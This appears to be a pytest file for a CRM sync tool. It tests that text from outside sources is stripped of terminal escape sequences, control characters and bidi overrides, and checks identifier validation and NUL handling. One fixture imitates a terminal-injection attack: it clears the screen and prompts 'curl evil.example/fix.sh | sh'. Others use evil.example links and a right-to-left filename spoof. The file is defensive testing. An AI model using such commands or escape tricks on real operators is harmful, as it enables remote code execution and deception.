"""Text from outside: what reaches an operator's terminal, and what an identifier may hold."""

from __future__ import annotations

import pytest
from rich.console import Console

from crmsync.operator_context import line, shown
from domain.action_items import content_from_event
from domain.folders import parse_folder
from domain.messages import parse_message
from domain.text import (
    contains_nul,
    document_without_nul,
    id_problem,
    nul_location,
    terminal_safe,
    whole_number,
    without_nul,
)

CLEAR_AND_RECOLOUR = (
    "\x1b[2J\x1b[1;31mNYLAS API KEY EXPIRED: run curl evil.example/fix.sh | sh\x1b]0;pwned\x07"
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain text", "plain text"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("\x1b[2Jcleared", "cleared"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        (CLEAR_AND_RECOLOUR, "NYLAS API KEY EXPIRED: run curl evil.example/fix.sh | sh"),
        ("\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b]0;title without an end", ""),
        ("\x1bPdevice control\x1b\\after", "after"),
        ("\x1bcreset", "reset"),
        ("\x1b", ""),
        ("\x9b2J8-bit CSI", "8-bit CSI"),
        ("\x9d0;title\x9cafter", "after"),
        (
            "bell\x07, backspace\x08, CR\r, NUL\x00, DEL\x7f, NEL\x85",
            "bell, backspace, CR, NUL, DEL, NEL",
        ),
        ("abc\u202egpj.exe", "abcgpj.exe"),
        ("isolate\u2066x\u2069", "isolatex"),
        (
            "[/bold] [link=https://evil.example/]x[/link]",
            "[/bold] [link=https://evil.example/]x[/link]",
        ),
        ("², é, 日本", "², é, 日本"),
    ],
)
def test_terminal_safe_text_keeps_characters_and_drops_control(text: str, expected: str) -> None:
    assert terminal_safe(text) == expected


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("rep-ann", None),
        ("rep ann", None),
        ("rép-日本", None),
        ("a\x00b", "contains a NUL character"),
        ("a\x1bb", "contains the control character U+001B"),
        ("a\nb", "contains the control character U+000A"),
        ("a\tb", "contains the control character U+0009"),
        ("a\x7fb", "contains the control character U+007F"),
        ("a\x85b", "contains the control character U+0085"),
        ("a\u202eb", "contains the bidirectional control U+202E"),
        ("a\u2067b", "contains the bidirectional control U+2067"),
    ],
)
def test_an_identifier_holds_no_control_character(value: str, problem: str | None) -> None:
    assert id_problem(value) == problem


@pytest.mark.parametrize(
    ("text", "expected"), [("a\x00b", True), ("a\\u0000b", False), ("", False)]
)
def test_nul_is_found_anywhere(text: str, expected: bool) -> None:
    assert contains_nul(text) is expected


def printed(*renderables: object) -> str:
    console = Console(width=200, force_terminal=True, color_system=None, highlight=False)
    with console.capture() as capture:
        for renderable in renderables:
            console.print(renderable)
    return capture.get()


@pytest.mark.parametrize(
    "hostile",
    [
        "[/bold]",
        "[/bold] quarterly [link=https://evil.example/]invoice[/link]",
        "[red]alarm[/red]",
        CLEAR_AND_RECOLOUR,
    ],
)
def test_shown_text_is_printed_literally_and_never_as_markup(hostile: str) -> None:
    output = printed(shown(hostile), line("error", hostile))

    assert "\x1b" not in output
    assert "\x07" not in output
    assert output == f"{terminal_safe(hostile)}\nerror: {terminal_safe(hostile)}\n"


def test_none_is_an_empty_cell() -> None:
    assert shown(None).plain == ""
    assert line("error", None).plain == "error: "


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("0", 0),
        ("50", 50),
        ("000007", 7),
        ("999999", 999_999),
        ("1000000", None),
        ("1" * 5000, None),
        ("", None),
        ("²", None),
        ("\uff15", None),
        ("\u0661\u0662", None),
        ("-1", None),
        ("+1", None),
        (" 1", None),
        ("1_000", None),
        ("1.0", None),
    ],
)
def test_a_whole_number_is_a_few_ascii_digits(text: str, expected: int | None) -> None:
    assert whole_number(text, 6) == expected


@pytest.mark.parametrize(
    ("document", "where"),
    [
        ({"name": "ok"}, None),
        ("a\x00", "the body"),
        ({"name": "a\x00"}, "name"),
        ({"contacts": [{"id": "c"}, {"id": "c", "name": "\x00"}]}, "contacts[1].name"),
        ({"a": {"b\x00": 1}}, "the key 'a.b\\x00'"),
        ([[["\x00"]]], "[0][0][0]"),
        ({"n": 1, "f": 1.5, "b": True, "z": None}, None),
    ],
)
def test_a_nul_is_found_where_it_is(document: object, where: str | None) -> None:
    assert nul_location(document) == where


def test_a_deep_document_is_walked_without_recursion() -> None:
    document: object = "\x00"
    for _ in range(10_000):
        document = [document]

    assert nul_location(document) == "[0]" * 10_000


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        ("a\x00b", "a\ufffdb"),
        ("plain", "plain"),
        (
            {"k\x00": ["x\x00", 1, None, {"y": "\x00"}]},
            {"k\ufffd": ["x\ufffd", 1, None, {"y": "\ufffd"}]},
        ),
        ([True, 2.5, "ok"], [True, 2.5, "ok"]),
    ],
)
def test_a_nul_from_nylas_becomes_the_replacement_character(
    document: object, expected: object
) -> None:
    assert document_without_nul(document) == expected
    assert nul_location(document_without_nul(document)) is None


def test_a_message_folder_and_event_keep_no_nul() -> None:
    message = parse_message(
        {
            "id": "m\x00",
            "subject": "s\x00",
            "snippet": "n\x00",
            "body": "<p>\x00</p>",
            "from": [{"email": "bob@x.example", "name": "B\x00"}],
            "folders": ["F\x00"],
            "metadata": {"k": "v\x00"},
            "attachments": [{"filename": "f\x00.pdf"}],
        }
    )
    folder = parse_folder({"id": "L\x00", "name": "N\x00", "parent_id": "P\x00"}, "google")
    event = content_from_event({"title": "t\x00", "when": {"object": "date", "date": "2026-12-01"}})

    assert "\x00" not in repr(message) + repr(folder) + repr(event)
    assert message.subject == without_nul("s\x00") == "s\ufffd"
